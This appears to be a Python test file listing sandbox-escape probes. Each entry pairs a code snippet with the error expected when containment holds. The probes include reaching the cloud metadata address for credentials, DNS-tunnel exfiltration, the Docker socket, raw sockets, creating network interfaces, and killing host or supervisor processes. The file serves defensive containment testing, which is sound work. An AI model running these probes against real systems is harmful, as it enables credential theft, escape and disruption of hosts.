"""Attacks over the network and on other processes: out of the sandbox, into the host, into the sandbox next door."""

from tests.escape.attack import Attack, Category, Plain, Unshown, Weak, contained, held

_OUT = Unshown("tests reach nothing outside; in the same way the listeners of the host are reached")
_OWN = "on an interface of the sandbox's own"
_FRAIL = "gVisor lets pid 1 be killed from inside: who does it loses his sandbox"
_ROOT = Plain("root")

NETWORK = Category(
    "The network",
    (
        Attack("host-loopback", "A server on the host's loopback interface.", held("ECONNREFUSED"),
               'connect(("127.0.0.1", w["ports"]["loopback"]))'),
        Attack("host-loopback-6", "The same by IPv6.", held("ECONNREFUSED|EADDRNOTAVAIL"),
               'connect(("::1", w["ports"]["loopback6"]))'),
        Attack("host-datagram", "A datagram to the host's loopback interface.", held("EPERM", gvisor="ECONNREFUSED"),
               """
               with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                   one.connect(("127.0.0.1", w["ports"]["udp"]))
                   for _ in range(3):
                       one.send(b"knock"); time.sleep(0.05)
               """),
        Attack("host-address", "A server on the address the host is known by.", held("ENETUNREACH", gvisor="EHOSTUNREACH"),
               'connect((w["address"], w["ports"]["outward"]))'),
        Attack("ray", "Ray's ports: whoever speaks with them runs code on every node.", held("ECONNREFUSED"),
               """
               names = {refusal(connect, ("127.0.0.1", port)) for port in (w["ports"]["ray"], 6379, 8265, 10001, 8000)}
               return "done" if "" in names else " ".join(sorted(names))
               """),
        Attack("postgres", "PostgreSQL's socket.", held("ENOENT"), 'connect(w["unix"])'),
        Attack("postgres-port", "PostgreSQL's port, and Valkey's.", held("ECONNREFUSED"),
               """
               names = {refusal(connect, ("127.0.0.1", port)) for port in (5432, 6379, w["ports"]["loopback"])}
               return "done" if "" in names else " ".join(sorted(names))
               """),
        Attack("docker-socket", "The container engine's socket, which is root of the host.", held("ENOENT"),
               """
               places = [w["docker"], "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]
               names = {refusal(connect, place) for place in places}
               return "done" if "" in names else " ".join(sorted(names))
               """),
        Attack("abstract-socket", "A socket of the host's that has no file.", held("ECONNREFUSED"),
               'connect(w["abstract"])'),
        Attack("metadata", "The cloud's metadata address, for its credentials.", held("ENETUNREACH", gvisor="EHOSTUNREACH"),
               'connect(("169.254.169.254", 80))', proof=_OUT),
        Attack("metadata-6", "The same by IPv6.", held("ENETUNREACH|EADDRNOTAVAIL", gvisor="EHOSTUNREACH"), 'connect(("fd00:ec2::254", 80))',
               proof=_OUT),
        Attack("outside", "A server outside.", held("ENETUNREACH", gvisor="EHOSTUNREACH"), 'connect(("192.0.2.1", 443))', proof=_OUT),
        Attack("outside-6", "The same by IPv6.", held("ENETUNREACH|EADDRNOTAVAIL", gvisor="EHOSTUNREACH"), 'connect(("2001:db8::1", 443))',
               proof=_OUT),
        Attack("private-network", "The network the host is in.", held("ENETUNREACH", gvisor="EHOSTUNREACH"),
               """
               names = {refusal(connect, (address, 80)) for address in ("10.0.0.1", "172.17.0.1", "192.168.0.1")}
               return "done" if "" in names else " ".join(sorted(names))
               """, proof=_OUT),
        Attack("dns-tunnel", "Carry data out in names.", held("gaierror -3"),
               'socket.getaddrinfo("c2VjcmV0.example.org", 80)', proof=_OUT),
        Attack("dns-datagram", "The same without the resolver.", held("EPERM", gvisor="EHOSTUNREACH"),
               'connect(("192.0.2.53", 53), socket.SOCK_DGRAM)', proof=_OUT),
        Attack("broadcast", "Ask everybody on the wire.", held("EPERM", gvisor="ENETUNREACH"),
               """
               with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                   one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                   one.sendto(b"x", ("255.255.255.255", 67))
               """, proof=_OUT),
        Attack("multicast", "Ask a group on the wire.", held("EPERM", gvisor="ENETUNREACH"),
               'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("224.0.0.251", 5353))', proof=_OUT),
        Attack("raw-socket", "Make packets by hand.", held("EPERM"),
               "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()", proof=_ROOT),
        Attack("packet-socket", "Read everything on the wire.", held("EPERM"),
               "socket.socket(17, socket.SOCK_RAW, 0x0300).close()", proof=_ROOT),
        Attack("ping-socket", "Send pings.", held("EPERM", gvisor=contained("gVisor's own network, which leads nowhere")),
               "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).close()",
               proof=Plain("root", works="done|EACCES")),
        Attack("crypto-socket", "The kernel's cryptography, for its bugs.", held("EPERM", gvisor="EAFNOSUPPORT"),
               "socket.socket(38, socket.SOCK_SEQPACKET).close()", proof=Plain(works="done|EAFNOSUPPORT")),
        Attack("virtual-machine-socket", "The socket between a virtual machine and its host.",
               held("EPERM", gvisor="EAFNOSUPPORT"), "socket.socket(40, socket.SOCK_STREAM).close()",
               proof=Plain(works="done|EAFNOSUPPORT")),
        Attack("packet-filter", "The kernel's packet filter, for its bugs.", held("EPERM", gvisor="EPROTONOSUPPORT"),
               "socket.socket(16, socket.SOCK_RAW, 12).close()"),
        Attack("audit", "The kernel's audit.", held("EPERM", gvisor="EPROTONOSUPPORT"),
               "socket.socket(16, socket.SOCK_RAW, 9).close()", proof=Plain(works="done|EPROTONOSUPPORT")),
        Attack("rare-protocol", "A protocol nobody needs, for its bugs.",
               held("EPERM", gvisor="EPROTONOSUPPORT|ENOPROTOOPT|EINVAL"),
               "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).close()",
               proof=Plain(works="done|EPROTONOSUPPORT|ENOPROTOOPT")),
        Attack("own-address", "Give the loopback interface the metadata address.", held("EPERM", gvisor="ENOTTY"),
               """
               with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                   address = struct.pack("16sHH4s8x", b"lo:1", 2, 0, socket.inet_aton("169.254.169.254"))
                   fcntl.ioctl(one, 0x8916, address)
               """, proof=Weak()),
        Attack("own-interface", "Make a network interface that leads out.", held("-1", gvisor="-13"),
               """
               header = struct.pack("IHHII", 16 + 16 + 20, 16, 0x605, 1, 0)
               link = struct.pack("BxHiII", 0, 0, 0, 0, 0)
               attributes = struct.pack("HH4s", 8, 3, b"out\\0") + struct.pack("HHHH4s", 12, 18, 8, 1, b"veth")
               with socket.socket(16, socket.SOCK_RAW, 0) as one:
                   one.send(header + link + attributes)
                   code = struct.unpack_from("i", one.recv(4096), 16)[0]
               return str(code) if code else "done"
               """, proof=Weak()),
        Attack("low-port", "Listen where the system's servers do.", held("EACCES", docker=contained(_OWN), gvisor=contained(_OWN)),
               'socket.create_server(("127.0.0.1", 80)).close()', proof=Unshown("the host's port may be taken")),
    ),
)  # fmt: skip

NEIGHBOURS = Category(
    "The sandbox next door",
    (
        Attack("neighbour-files", "Read its files.", held("nothing"),
               """
               found = [path for path in ("/work", "/tmp", "/dev/shm", "/home/agent")
                        if os.path.isdir(path) and "next-door" in os.listdir(path)]
               return "done" if found else "nothing"
               """, proof=Unshown("two sandboxes have no folder in common")),
        Attack("neighbour-door", "Knock at its door.", held("ENOENT"), 'connect(w["neighbour"]["door"])'),
        Attack("neighbour-port", "Reach a server that listens in it.", held("ECONNREFUSED"),
               'connect(("127.0.0.1", w["neighbour"]["port"]))', proof=Unshown("it listens in a sandbox")),
        Attack("neighbour-abstract", "Reach a socket of its that has no file.", held("ECONNREFUSED"),
               'connect("\\0next-door")', proof=Unshown("it listens in a sandbox")),
        Attack("neighbour-memory", "Reach memory it shares.", held("ENOENT"),
               'call("shmget", w["neighbour"]["key"], 4096, 0)', proof=Unshown("it is shared in a sandbox")),
        Attack("neighbour-processes", "See its processes.", held("nothing"),
               """
               lines = b""
               for name in os.listdir("/proc"):
                   try: lines += read(f"/proc/{name}/cmdline") if name.isdigit() and int(name) != os.getpid() else b""
                   except OSError: pass
               return "done" if b"next-door" in lines else "nothing"
               """, proof=Unshown("they run in a sandbox")),
        Attack("own-door", "Find the door of one's own sandbox, to speak with the supervisor as the host does.",
               held("nothing", docker=contained("the door it dials lets nobody in but its first process"),
                    gvisor=contained("what dials is believed to be this sandbox, and it is")),
               """
               for folder, _, names in os.walk("/run"):
                   for name in names:
                       if stat.S_ISSOCK(os.lstat(f"{folder}/{name}").st_mode): return "done"
               return "nothing"
               """, proof=Unshown("there is no door elsewhere")),
        Attack("listening-socket-of-supervisor", "Take connections that are meant for the supervisor.",
               held("EACCES", gvisor=contained("pipes of the sandbox's own; sockets cannot be opened so")),
               """
               names = {refusal(os.open, f"/proc/1/fd/{name}", os.O_RDWR) for name in os.listdir("/proc/1/fd")}
               return "done" if "" in names else "nothing"
               """, proof=Unshown("there is no supervisor on the host")),
    ),
)  # fmt: skip

SIGNALS = Category(
    "Signals",
    (
        Attack("kill-host-process", "Kill a process of the host.", held("ESRCH"), 'os.kill(w["pid"], signal.SIGKILL)'),
        Attack("stop-host-process", "Stop it.", held("ESRCH"), 'os.kill(w["pid"], signal.SIGSTOP)'),
        Attack("kill-host-group", "Kill its group.", held("ESRCH"), 'os.killpg(w["pid"], signal.SIGKILL)'),
        Attack("kill-host-thread", "Kill it by its thread.", held("ESRCH"),
               'call("tgkill", w["pid"], w["pid"], signal.SIGKILL)'),
        Attack("queue-host-signal", "Queue it a signal.", held("ESRCH"),
               'call("rt_sigqueueinfo", w["pid"], 9, packed("iii", 9, 0, -1, size=128))'),
        Attack("descriptor-of-host-process", "Hold it, to signal it later.", held("ESRCH", gvisor="ENOSYS|ESRCH"),
               'call("pidfd_open", w["pid"], 0)'),
        Attack("slow-host-process", "Make it slower.", held("ESRCH"), 'call("setpriority", 0, w["pid"], 19)'),
        Attack("limit-host-process", "Take its descriptors.", held("EPERM", gvisor="ESRCH"),
               'call("prlimit64", w["pid"], 7, packed("QQ", 1, 1), 0)', proof=Plain("root")),
        Attack("move-host-process", "Put it on one core.", held("ESRCH"), 'os.sched_setaffinity(w["pid"], {0})'),
        Attack("trace-host-process", "Trace it.", held("EPERM", gvisor="ESRCH"), 'call("ptrace", 0x4206, w["pid"], 0, 0)',
               proof=Plain("root")),
        Attack("signal-by-descriptor", "Have the kernel signal it for us.", held("ESRCH"),
               """
               reading, writing = os.pipe()
               fcntl.fcntl(reading, fcntl.F_SETOWN, w["pid"])
               """),
        Attack("kill-everybody", "Kill everything there is.", held("done|SIGKILL"),
               "child(); os.kill(-1, signal.SIGKILL)", proof=Weak(works="done|SIGKILL"), is_alone=True),
        Attack("kill-supervisor", "Kill the supervisor.", held("alive", gvisor=contained(_FRAIL, "sandbox ends")),
               """
               for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):
                   os.kill(w["victim"], number)
               time.sleep(0.2)
               state = read(f"/proc/{w['victim']}/stat").rpartition(b")")[2].split()[0].decode()
               return "alive" if state in "SR" else "done"
               """, proof=Plain(), is_alone=True),
        Attack("ask-supervisor-to-end", "Ask the supervisor to end, as `pkill python3` does.", held("alive"),
               """
               for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                   os.kill(w["victim"], number)
               time.sleep(0.2)
               state = read(f"/proc/{w['victim']}/stat").rpartition(b")")[2].split()[0].decode()
               return "alive" if state in "SR" else "done"
               """, is_alone=True),
    ),
)  # fmt: skip
